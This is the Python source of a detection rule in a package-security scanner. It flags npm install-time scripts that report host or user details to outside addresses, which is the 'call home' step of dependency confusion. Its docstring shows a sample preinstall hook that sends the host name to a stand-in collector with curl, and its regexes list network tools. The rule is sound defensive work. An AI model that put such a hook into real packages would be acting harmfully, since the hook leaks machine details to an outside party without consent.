"""What it sees
    A script that installation runs and that tells somebody about the machine or only that it ran: host name, user or
    folder in the address of `curl`, `wget`, `ping` or `nslookup`, a request catcher, a request whose answer is thrown
    away, a calculator that opens as proof.

Why it matters
    It is the call home of dependency confusion: the author learns whose build machine took the bait, and what runs
    there next time is up to him.

Example
    {"scripts": {"preinstall": "curl https://collect.example.test/?h=$(hostname)"}}

What to do
    Do not install. If it was installed, host and user name are known outside.

False alarms
    Scripts that save what they download are not meant. A plain request to an ordinary host is reported with less
    confidence.

References
    ATT&CK T1195.001, T1082, T1071.004.
"""

import re
from collections.abc import Iterator

from lazaretto.detect.pycode import PROOF, Place, defanged, place, substituted
from lazaretto.detect.rule import Match, Rule
from lazaretto.detect.rules.manifest.lifecycle_script import closure
from lazaretto.model.finding import Confidence, Phase, Role, Severity
from lazaretto.model.text import N_
from lazaretto.parse.manifests import INSTALL_SCRIPTS, PackageJson

_TELLS = N_("the script {name} sends facts about this machine to {address} while it is installed")
_CATCHER = N_("the script {name} calls {address}, a place that only collects requests, while it is installed")
_CALLS = N_("the script {name} calls {address} while it is installed, and throws the answer away")
_PROVES = N_("the script {name} starts {command} while it is installed, as exploits do to show that they ran")

_SPEAKS = re.compile(
    r"(?:^|[\s;&|(`\"'])(?:curl|wget|nslookup|dig|host|ping|nc|iwr|Invoke-WebRequest|Invoke-RestMethod)(?:\.exe)?\s",
    re.IGNORECASE,
)
_SAVES = re.compile(
    r"\s(?:-o|-O|--output|--remote-name|-OutFile|>)\s?(?!/dev/null|-\s|-$|NUL\b)[\w./$%~-]|\|", re.IGNORECASE
)
_ADDRESS = re.compile(
    r"(?:https?|wss?)://[^\s\"'`|;>)]{3,300}|(?<![\w./@-])(?:[$(){}\w`-]{1,60}\.){1,6}[a-z]{2,12}(?![\w(])",
    re.IGNORECASE,
)


def check(view: PackageJson) -> Iterator[Match]:
    """Yield one finding for each script of an installation that tells something."""
    facts = view.facts
    seen: set[str] = set()
    for name in (name for name in INSTALL_SCRIPTS if name in view.scripts):
        for called, _ in closure(facts, name):
            if called in seen:
                continue
            seen.add(called)
            yield from _judge(view, called, view.scripts[called][:4000])


def _judge(view: PackageJson, name: str, text: str) -> Iterator[Match]:
    line = view.script_line(name)
    if PROOF.search(text):
        yield Match(_PROVES, line=line, params={"name": name, "command": text[:40]}, excerpt=text[:200])
        return
    if not _SPEAKS.search(text):
        return
    found = [
        address for address in _ADDRESS.findall(text)[:20] if place(address) > Place.LOCAL or {"$", "`"} & set(address)
    ]
    if not found:
        return
    worst = max(found, key=place)
    told = {tag for tag in substituted(text) if tag.startswith(("host:", "envall", "secret:"))}
    severity, confidence = Severity.HIGH, Confidence.HIGH
    if told:
        template = _TELLS
    elif place(worst) is Place.DROP:
        template = _CATCHER
    elif not _SAVES.search(text):
        template, severity, confidence = _CALLS, Severity.MEDIUM, Confidence.MEDIUM
    else:
        return
    yield Match(
        template,
        line=line,
        params={"name": name, "address": defanged(worst)},
        excerpt=text[:200],
        severity=severity,
        confidence=confidence,
    )


RULE = Rule(
    id="npm/lifecycle-tells-host",
    title=N_("Installation tells somebody about the machine"),
    view=PackageJson,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.INSTALL,
    role=Role.SEND,
    check=check,
    doc=__doc__ or "",
    techniques=("T1195.001", "T1082"),
    needles=(b"install",),
)
